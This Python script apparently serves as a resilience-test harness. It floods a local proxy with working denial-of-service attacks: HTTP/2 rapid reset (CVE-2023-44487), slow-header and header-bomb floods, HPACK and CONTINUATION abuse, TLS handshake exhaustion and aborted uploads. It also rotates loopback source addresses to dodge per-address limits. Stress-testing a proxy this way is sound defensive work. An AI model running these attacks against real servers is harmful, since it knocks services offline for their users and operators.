"""Attacks on a proxy, with bare sockets. Each gives counts of what it did."""

import argparse
import json
import os
import selectors
import socket
import ssl
import struct
import time
from collections import Counter
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
# Connections that come from one address, below what the proxy allows one.
PER_ADDRESS = 500
# The attackers' addresses; others come from 127.0.0.1.
ADDRESS = "127.0.1.%d"
CONNECT_TIMEOUT_S = 5.0


class Peer:
    """Where the proxy is, how long to go on, and what has been done."""

    def __init__(self, port, tls_port, seconds, rate):
        self.port, self.tls_port = port, tls_port
        self.begin = time.monotonic()
        self.end = self.begin + seconds
        # Connections per second, or 0: as many as can be.
        self.rate = rate
        self.connected = 0
        self.done = Counter()

    def goes_on(self):
        """Whether there is time left."""
        return time.monotonic() < self.end

    def connect(self, port=None):
        """A connection from one of many addresses."""
        if self.rate:
            time.sleep(max(0.0, self.begin + self.connected / self.rate - time.monotonic()))
        source = ADDRESS % (1 + self.connected // PER_ADDRESS % 200)
        self.connected += 1
        connection = socket.create_connection(("127.0.0.1", port or self.port), CONNECT_TIMEOUT_S, (source, 0))
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.done["connections"] += 1
        return connection

    def rest(self):
        """Waits for the end."""
        time.sleep(max(0.0, self.end - time.monotonic()))


def integer(value, bits, first):
    """An integer of HPACK (RFC 7541, section 5.1)."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytearray([first | limit]), value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + bytes([value]))


def literal(name, value, first=0x00):
    """A field with a literal name; `first` says whether it is indexed."""
    return bytes([first]) + integer(len(name), 7, 0) + name + integer(len(value), 7, 0) + value


def request(path=b"/b/64", method=b"GET"):
    """The pseudo-fields of a request, with nothing indexed."""
    return (literal(b":method", method) + literal(b":scheme", b"http") + literal(b":path", path)
            + literal(b":authority", b"site.example"))


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def abort(connection):
    """Ends a connection with a reset."""
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.close()


def floods(peer, what, opening, chunk, most=None):
    """Sends chunk after chunk on one connection until it is closed, then on the next."""
    while peer.goes_on():
        connection = peer.connect()
        try:
            connection.sendall(opening)
            number = 0
            while peer.goes_on() and (most is None or number < most):
                data, count = chunk(number)
                connection.sendall(data)
                peer.done[what] += count
                number += 1
        except OSError:
            pass
        connection.close()


def rapid_reset(peer):
    """streams that are opened and reset at once (CVE-2023-44487)"""
    block = request(b"/slow/64")

    def chunk(number):
        streams = range(1 + 200 * number, 201 + 200 * number, 2)
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in streams), len(streams)

    floods(peer, "resets", PREFACE + frame(SETTINGS, 0, 0), chunk)


def few_resets(peer):
    """90 streams of a connection that are opened and reset at once, and then the next connection"""
    block = request(b"/slow/64")
    streams = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in range(1, 181, 2))
    floods(peer, "resets", PREFACE + frame(SETTINGS, 0, 0), lambda number: (streams, 90), most=1)


def late_resets(peer):
    """90 streams of a connection that are opened, and reset when they have been begun, and then the next connection"""
    block = request(b"/slow/64")
    opening = PREFACE + frame(SETTINGS, 0, 0) + b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 181, 2))
    resets = b"".join(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in range(1, 181, 2))

    def chunk(_):
        time.sleep(0.002)
        return resets, 90

    floods(peer, "resets", opening, chunk, most=1)


def left_requests(peer):
    """100 requests of a connection, which is left, and then the next connection"""
    block = request(b"/slow/64")
    streams = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 201, 2))
    floods(peer, "requests", PREFACE + frame(SETTINGS, 0, 0), lambda number: (streams, 100), most=1)


def large_heads(peer):
    """20 connections of 100 streams that wait for a slow origin, with heads of 12 KB"""
    block = request(b"/slow/64") + b"".join(literal(b"x-large-%d" % n, b"x" * 4000) for n in range(3))
    while peer.goes_on():
        connections = [peer.connect() for _ in range(20)]
        for connection in connections:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for stream in range(1, 200, 2):
                connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                peer.done["requests"] += 1
        time.sleep(min(5.0, max(0.0, peer.end - time.monotonic())))
        for connection in connections:
            abort(connection)


def slow_heads(peer):
    """4,000 connections, each with half a head that goes on byte by byte"""
    half = b"GET /b/64 HTTP/1.1\r\nHost: site.example\r\nX-Half: " + b"x" * 3000
    connections = []
    for _ in range(4000):
        connection = peer.connect()
        connection.sendall(half)
        connections.append(connection)
    while peer.goes_on():
        for connection in connections:
            try:
                connection.send(b"x")
                peer.done["bytes"] += 1
            except OSError:
                # The proxy has had enough of it.
                pass
        time.sleep(1)
    for connection in connections:
        connection.close()


def tls_handshakes(peer):
    """5,000 TLS handshakes, and 1,000 that are begun only"""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    begun = []
    for number in range(5000):
        connection = peer.connect(peer.tls_port)
        try:
            if number % 5 == 0:
                # The head of a record that has a ClientHello of 16 KiB, and some of it.
                waiting = peer.connect(peer.tls_port)
                waiting.sendall(b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + bytes(1000))
                begun.append(waiting)
                peer.done["begun"] += 1
            context.wrap_socket(connection, server_hostname="site.example").close()
            peer.done["handshakes"] += 1
        except OSError:
            connection.close()
    peer.rest()
    for connection in begun:
        connection.close()


def header_bombs(peer):
    """heads that are too large, in HTTP/1 and, by HPACK, in HTTP/2"""
    opening = PREFACE + frame(SETTINGS, 0, 0)
    indexed = literal(b"x-bomb", b"x" * 4000, 0x40)
    # The first entry of the dynamic table, four kilobytes for each byte.
    bomb = request() + indexed + b"\xbe" * 16000
    crumbs = request() + b"".join(literal(b"cookie", b"a=b") for _ in range(1000))
    while peer.goes_on():
        for head in (b"X-Line: " + b"x" * 100_000, b"X: y\r\n" * 20_000, b"X-Line: " + b"x" * 8000 + b"\r\n"):
            connection = peer.connect()
            try:
                connection.sendall(b"GET /b/64 HTTP/1.1\r\nHost: site.example\r\n" + head * (90_000 // len(head) + 1))
                connection.recv(1000)
            except OSError:
                pass
            connection.close()
            peer.done["heads"] += 1
        for block in (bomb, crumbs):
            connection = peer.connect()
            try:
                connection.sendall(opening + frame(HEADERS, END_STREAM, 1, block[:16000]))
                connection.sendall(frame(CONTINUATION, END_HEADERS, 1, block[16000:]))
                connection.recv(1000)
            except OSError:
                pass
            connection.close()
            peer.done["blocks"] += 1
        connection = peer.connect()
        try:
            connection.sendall(opening + frame(HEADERS, END_STREAM, 1, request()))
            for _ in range(1000):
                connection.sendall(frame(CONTINUATION, 0, 1, literal(b"x-more", b"x" * 1000)))
                peer.done["continuations"] += 1
        except OSError:
            pass
        connection.close()


def aborted_uploads(peer):
    """64 uploads at a time that break off after some megabytes"""
    head = b"POST /u/64 HTTP/1.1\r\nHost: site.example\r\nContent-Length: 100000000\r\n\r\n"
    body = bytes(256 * 1024)
    selector = selectors.DefaultSelector()

    def begin():
        connection = peer.connect()
        connection.sendall(head)
        connection.setblocking(False)
        selector.register(connection, selectors.EVENT_WRITE, [4_000_000])

    def end(connection):
        selector.unregister(connection)
        abort(connection)
        peer.done["aborted"] += 1

    for _ in range(64):
        begin()
    while peer.goes_on():
        for key, _ in selector.select(1):
            try:
                sent = key.fileobj.send(body)
                key.data[0] -= sent
                peer.done["KiB"] += sent // 1024
            except BlockingIOError:
                continue
            except OSError:
                key.data[0] = 0
            if key.data[0] <= 0:
                end(key.fileobj)
                begin()
    for key in list(selector.get_map().values()):
        end(key.fileobj)


def asks_for(field, connections):
    """Requests with a field that has a module misbehave, one after the other on so many connections at a time."""
    ask = f"GET /b/64 HTTP/1.1\r\nHost: site.example\r\n{field}: 1\r\n\r\n".encode()

    def attack(peer):
        selector = selectors.DefaultSelector()

        def begin():
            connection = peer.connect()
            connection.sendall(ask)
            selector.register(connection, selectors.EVENT_READ)

        for _ in range(connections):
            begin()
        peer.done["requests"] += connections
        while peer.goes_on():
            for key, _ in selector.select(0.5):
                connection = key.fileobj
                try:
                    answer = connection.recv(65536)
                    status = answer[9:12].decode() if answer.startswith(b"HTTP/1.1 ") else "rest of an answer"
                    peer.done[status if answer else "closed"] += 1
                    connection.sendall(ask)
                except OSError:
                    answer = b""
                peer.done["requests"] += 1
                if not answer:
                    selector.unregister(connection)
                    connection.close()
                    begin()
    return attack


# Requests for which a module of `misbehaving/` panics, spins for 200 ms, or waits for an answer that never comes.
MODULES = {
    "module-panics": asks_for("x-panic", 8),
    "module-stumbles": asks_for("x-stumble", 8),
    "module-spins": asks_for("x-labour", 8),
    "module-drags": asks_for("x-drag", 2),
    "module-waits": asks_for("x-ask", 200),
}
for name, about in {
    "module-panics": "a module that panics",
    "module-stumbles": "a module that panics and can be left out",
    "module-spins": "a module that spins for 200 ms, and says so",
    "module-drags": "a module that spins for 200 ms, and says that it is light",
    "module-waits": "a module that waits for an answer that never comes",
}.items():
    MODULES[name].__doc__ = about

ATTACKS = {
    "rapid-reset": rapid_reset,
    "few-resets": few_resets,
    "late-resets": late_resets,
    "left-requests": left_requests,
    "large-heads": large_heads,
    "slow-heads": slow_heads,
    "tls-handshakes": tls_handshakes,
    "header-bombs": header_bombs,
    "aborted-uploads": aborted_uploads,
    **MODULES,
}


def give_way():
    """Attackers have machines of their own; here they give way to the proxy."""
    os.nice(10)
    # Linux compares niceness within a session, and sessions by that of their autogroups.
    autogroup = Path("/proc/self/autogroup")
    if autogroup.exists():
        autogroup.write_text("10")


def main():
    """Prints what was done as JSON."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls-port", type=int, required=True)
    parser.add_argument("--attack", choices=ATTACKS, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--rate", type=float, default=0)
    options = parser.parse_args()
    give_way()
    peer = Peer(options.port, options.tls_port, options.seconds, options.rate)
    ATTACKS[options.attack](peer)
    print(json.dumps(peer.done))


if __name__ == "__main__":
    main()
